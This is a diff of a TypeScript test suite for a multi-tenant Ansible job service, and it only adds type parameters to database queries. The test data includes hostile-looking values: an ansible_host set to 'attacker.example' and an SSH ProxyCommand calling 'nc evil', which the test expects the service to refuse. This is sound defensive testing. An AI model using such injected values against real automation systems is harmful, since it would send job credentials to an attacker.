@@ -251,14 +251,14 @@ describe('run sandbox: a tenant playbook cannot reach the service, other tenants
     });
     expect(job.status).toBe(201);
     // Extra vars outrank the job's: a ServerOperator could send the job's keys and passwords anywhere.
-    const executionsBefore = (await stack.db.query('SELECT count(*)::int AS n FROM executions'))[0].n;
+    const executionsBefore = (await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n;
     for (const body of [{ properties: { ansible_host: 'attacker.example' } }, { secretProperties: { ansible_ssh_common_args: '-o ProxyCommand=nc evil 22' } }]) {
       const refused = await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, body);
       expect(refused.status).toBe(403);
       expect(refused.body.message).toMatch(/ServerAdmin/);
     }
     expect((await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, { properties: { report: '/etc/hostname' } })).status).toBe(202);
-    expect((await stack.db.query('SELECT count(*)::int AS n FROM executions'))[0].n).toBe(executionsBefore + 1);
+    expect((await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n).toBe(executionsBefore + 1);
     const started = await operator.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, {
       properties: { ansible_connection: 'local', ansible_python_interpreter: '/usr/bin/python3', report: secretFile, out: marker },
     });
